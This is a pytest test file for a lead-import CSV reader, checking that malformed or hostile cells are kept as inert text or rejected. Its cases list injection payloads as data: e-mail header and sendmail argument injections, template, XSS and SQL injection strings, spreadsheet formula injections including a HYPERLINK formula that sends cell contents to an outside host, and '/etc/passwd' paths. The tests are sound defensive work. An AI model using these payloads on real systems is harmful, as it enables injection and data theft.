"""Cells that lie: every one is read as what it is, or rejected with a reason; none does anything."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from runner.model.lead_draft import LeadDraft, RejectedRow, Row

Read = Callable[..., list[Row]]


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def one(read: Read, column: str, cell: str, **options: object) -> Row:
    """A row whose one odd cell is `cell`."""
    if column == "email":
        (row,) = read(f"email,name\n{quoted(cell)},A\n", **options)
    else:
        (row,) = read(f"email,{column}\nada@x.example,{quoted(cell)}\n", **options)
    return row


def value(read: Read, column: str, cell: str, **options: object) -> object:
    row = one(read, column, cell, **options)
    assert isinstance(row, LeadDraft), row
    return {**row.values, **row.fields}.get(column)


def reason(read: Read, column: str, cell: str, **options: object) -> str:
    row = one(read, column, cell, **options)
    assert isinstance(row, RejectedRow), row
    return row.reason


@pytest.mark.parametrize(
    "address",
    [
        "a@b.example, d@e.example", "a@b.example;d@e.example", "a@b.example\r\nBcc: x@y.example",
        '"a@evil.example"@victim.example', "alice@x.example)bob@evil.example", "<a@b.example>",
        "=?utf-8?q?a=40evil.example=2C?= <b@c.example>", "a@b..example", ".a@b.example", "a.@b.example",
        "a" * 65 + "@b.example", "a@" + "b" * 250 + ".example", "a@[127.0.0.1]", "a@localhost", "|/bin/sh@x.example",
        "-oQ/tmp@x.example", "a@b.example.", "a b@c.example", "undisclosed-recipients:;", "a@", "@b.example", "a",
        "a@b.example>", "a@-b.example", "a@b_c.example", "a@b.example\x00", "a@.example", "a\u2028@b.example",
    ],
)  # fmt: skip
def test_what_is_no_single_address_is_rejected(read: Read, address: str) -> None:
    assert reason(read, "email", address)


@pytest.mark.parametrize(
    ("cell", "address", "key"),
    [
        ("A@B.EXAMPLE", "A@b.example", "a@b.example"),
        (" a@b.example\u00a0", "a@b.example", "a@b.example"),
        ("a@b.example\u200b", "a@b.example", "a@b.example"),
        ("mailto:a@b.example", "a@b.example", "a@b.example"),
        ("a+1@b.example", "a+1@b.example", "a+1@b.example"),
        ("x@xn--mller-kva.example", "x@müller.example", "x@xn--mller-kva.example"),
        ("X@MÜLLER.example", "X@müller.example", "x@xn--mller-kva.example"),
        ("jörg@b.example", "jörg@b.example", "jörg@b.example"),
        ("o'hara@b.example", "o'hara@b.example", "o'hara@b.example"),
    ],
)
def test_spellings_of_an_address_give_one_key(read: Read, cell: str, address: str, key: str) -> None:
    row = one(read, "email", cell)
    assert isinstance(row, LeadDraft), row
    assert (row.values["email"], row.email_key) == (address, key)


@pytest.mark.parametrize("local", ["abuse", "postmaster", "noreply", "no-reply", "Mailer-Daemon", "unsubscribe"])
def test_role_addresses_are_rejected(read: Read, local: str) -> None:
    assert "role" in reason(read, "email", f"{local}@b.example")


def test_our_own_addresses_are_rejected(read: Read) -> None:
    own = frozenset({"ada@lumen.example"})
    assert "one of your own" in reason(read, "email", "Ada@Lumen.example", own_addresses=own)


@pytest.mark.parametrize(
    "name",
    [
        "=?utf-8?q?x=0ABcc:_evil@x.y?=", "{{ 7*7 }}", "{% include 'x' %}", "${7*7}", "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>', "'; DROP TABLE leads;--", "\U0001f469\u200d\U0001f52c", "Null",
    ],
)  # fmt: skip
def test_names_are_text_and_stay_what_they_are(read: Read, name: str) -> None:
    assert value(read, "first_name", name) == name


@pytest.mark.parametrize("cell", ["=cmd|'/C calc'!A0", "@SUM(1)", "-1+1", "＝1+1", '=HYPERLINK("http://e/?"&A1,"x")'])
def test_formulas_are_text_and_the_guarding_apostrophe_comes_off(read: Read, cell: str) -> None:
    assert value(read, "first_name", cell) == cell
    assert value(read, "first_name", f"'{cell}") == cell


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ("Ada\r\nBcc: evil@x.example", "Ada Bcc: evil@x.example"),
        ("Ada\tLovelace", "Ada Lovelace"),
        ("\u202egnp.exe", "gnp.exe"),
        ("A\u2028B", "A B"),
        ("e\u0301", "é"),
    ],
)
def test_a_name_is_one_line_without_direction_tricks(read: Read, cell: str, stored: str) -> None:
    assert value(read, "first_name", cell) == stored


@pytest.mark.parametrize("cell", ["", " ", "-", "n/a", "#N/A", "NaN", "null", "None", "NULL"])
def test_what_programs_write_for_nothing_is_nothing(read: Read, cell: str) -> None:
    assert value(read, "company", cell) is None


@pytest.mark.parametrize("cell", ["x" * 100_000, "a" + "\u0301" * 500])
def test_endless_names_are_rejected(read: Read, cell: str) -> None:
    assert reason(read, "first_name", cell).startswith("first_name: ")


@pytest.mark.parametrize(
    "cell",
    [
        "javascript:alert(1)", "file:///etc/passwd", "ftp://x.example/", "http://", "https://user:pw@x.example/", "x y",
        "http://x.example/\\..\\", "http://[::1", "http://x.example:99999/", "data:text/html,x", "http://-x.example/",
        "http://x..example", "gopher://x.example", "https://x.example/\r\nHost: y", "http://exa mple.example",
    ],
)  # fmt: skip
def test_what_is_no_web_address_is_rejected(read: Read, cell: str) -> None:
    assert reason(read, "contact_form_url", cell).startswith("contact_form_url: ")


@pytest.mark.parametrize(
    ("cell", "url"),
    [
        ("Lumen.example", "https://lumen.example"),
        ("lumen.example/Kontakt?x=1#top", "https://lumen.example/Kontakt?x=1"),
        ("HTTP://Lumen.Example:80/", "http://lumen.example"),
        ("//lumen.example/a", "https://lumen.example/a"),
        ("lumen.example:8443/x", "https://lumen.example:8443/x"),
        ("https://müller.example/über uns".replace(" ", "%20"), "https://xn--mller-kva.example/%C3%BCber%20uns"),
    ],
)
def test_web_addresses_are_normalised(read: Read, cell: str, url: str) -> None:
    assert value(read, "website", cell) == url


@pytest.mark.parametrize(
    "cell",
    [
        "https://www.linkedin.com.evil.example/in/x", "https://evil.example/linkedin.com/in/x",
        "https://www.linkedin.com/in/../messaging", "https://www.linkedin.com/company/acme", "?x=", "x),(y",
        "https://www.linkedin.com/", "urn:li:fsd_profile:x),(y", "javascript:alert(1)//linkedin.com/in/x",
    ],
)  # fmt: skip
def test_what_is_no_linkedin_profile_is_rejected(read: Read, cell: str) -> None:
    assert reason(read, "linkedin_url", cell).startswith("linkedin_url: ")


def test_spellings_of_a_profile_give_one_key_and_one_address(read: Read) -> None:
    cells = ("https://www.linkedin.com/in/Ada-L/", "http://de.linkedin.com/in/ada-l?trk=x", "linkedin.com/in/ada-l/de")
    rows = [one(read, "linkedin_url", cell) for cell in cells]
    assert {row.linkedin_key for row in rows if isinstance(row, LeadDraft)} == {"ada-l"}
    assert {row.values["linkedin_url"] for row in rows if isinstance(row, LeadDraft)} == {
        "https://www.linkedin.com/in/ada-l/"
    }


@pytest.mark.parametrize("cell", ["../../etc/localtime", "Europe/Berlin\0", "Mars/Olympus", "+02:00", "/etc/passwd"])
def test_what_is_no_time_zone_is_rejected(read: Read, cell: str) -> None:
    assert reason(read, "timezone", cell)


def test_zones_and_countries_are_understood_as_people_write_them(read: Read) -> None:
    assert value(read, "timezone", "europe/berlin") == "Europe/Berlin"
    assert value(read, "timezone", "America/New York") == "America/New_York"
    names = (
        "de",
        "Germany",
        "Deutschland",
        "UK",
        "United States",
        "South Korea",
        "The Netherlands",
        "Czechia",
        "Türkiye",
    )
    assert [value(read, "country", name) for name in names] == ["DE", "DE", "DE", "GB", "US", "KR", "NL", "CZ", "TR"]
    assert "is no country" in reason(read, "country", "Atlantis")


@pytest.mark.parametrize(
    ("country", "cell", "number"),
    [
        ("DE", "030 / 23125-001", "+493023125001"),
        ("DE", "+49 (0)30 23125 001", "+493023125001"),
        ("GB", "020 7946 0001", "+442079460001"),
        ("", "'+1 202-555-0101", "+12025550101"),
        ("US", "(202) 555-0101 ext. 12", "+12025550101"),
    ],
)
def test_phone_numbers_become_e164_by_country(read: Read, country: str, cell: str, number: str) -> None:
    (row,) = read(f"email,country,phone\na@x.example,{country},{cell}\n")
    assert isinstance(row, LeadDraft)
    assert row.values["phone"] == number


@pytest.mark.parametrize("cell", ["call me", "12", "020 7946 0001", "+999123456789", "+1555"])
def test_a_number_nobody_could_call_is_left_out_with_a_note_and_the_person_stays(read: Read, cell: str) -> None:
    row = one(read, "phone", cell)
    assert isinstance(row, LeadDraft)
    assert "phone" not in row.values
    assert "left empty" in row.notes[0]


@pytest.mark.parametrize(
    ("kind", "cell", "stored"),
    [
        ("text", " hello ", "hello"), ("integer", "-12", -12), ("number", "1,5", 1.5), ("number", "2.25", 2.25),
        ("boolean", "Yes", True), ("boolean", "0", False), ("date", "2026-11-23", "2026-11-23"),
    ],
)  # fmt: skip
def test_the_projects_own_fields_have_their_types(read: Read, kind: str, cell: str, stored: object) -> None:
    assert value(read, "plan", cell, lead_fields={"plan": kind}) == stored


@pytest.mark.parametrize(
    ("kind", "cell"),
    [
        ("integer", "1.5"), ("integer", "9" * 40), ("integer", "١٢"), ("number", "inf"), ("number", "1e999"),
        ("number", "x"), ("boolean", "maybe"), ("date", "23.11.2026"),
    ],
)  # fmt: skip
def test_a_value_of_another_type_rejects_the_row(read: Read, kind: str, cell: str) -> None:
    assert reason(read, "plan", cell, lead_fields={"plan": kind}).startswith("plan: ")


def test_columns_nobody_declared_are_not_read_whatever_their_name(read: Read) -> None:
    (row,) = read(
        "email,id,state,__class__,unsubscribe_url,lead.email\na@x.example,7,sent,x,http://evil.example,b@y.example\n"
    )
    assert isinstance(row, LeadDraft)
    assert (dict(row.values), dict(row.fields)) == ({"email": "a@x.example"}, {})


def test_consent_and_legal_basis_are_closed_sets(read: Read) -> None:
    assert value(read, "consent", "no") is False
    assert value(read, "legal_basis", "Legitimate interest") == "legitimate_interest"
    assert "there are" in reason(read, "legal_basis", "because")
    assert "neither yes nor no" in reason(read, "consent", "perhaps")


def test_a_row_that_names_nobody_is_rejected_and_one_with_only_a_form_is_not(read: Read) -> None:
    rows = read("email,first_name,website\n,Ada,\n,,\n,Bob,lumen.example\n")
    assert rows[0] == RejectedRow(2, "no e-mail address, LinkedIn profile, form, website or phone")
    assert rows[1] == RejectedRow(3, "the row is empty")
    assert isinstance(rows[2], LeadDraft)
    assert rows[2].email_key == "form:https://lumen.example"


@pytest.mark.parametrize(
    ("name", "first", "last"),
    [("Ada Lovelace", "Ada", "Lovelace"), ("Lovelace, Ada", "Ada", "Lovelace"), ("Ada", "Ada", None),
     ("Maria da Silva", "Maria da", "Silva")],
)  # fmt: skip
def test_one_column_of_names_is_split(read: Read, name: str, first: str, last: str | None) -> None:
    row = one(read, "Full Name", name)
    assert isinstance(row, LeadDraft)
    assert (row.values.get("first_name"), row.values.get("last_name")) == (first, last)


def test_a_row_without_a_field_that_every_lead_needs_is_rejected(read: Read) -> None:
    options = {"lead_fields": {"plan": "text", "seats": "integer"}, "required_fields": frozenset({"plan"})}
    rows = read("email,plan,seats\na@x.example,gold,\nb@x.example,-,3\n", **options)
    assert isinstance(rows[0], LeadDraft)
    assert rows[1] == RejectedRow(3, "plan: every lead of this project needs a value")
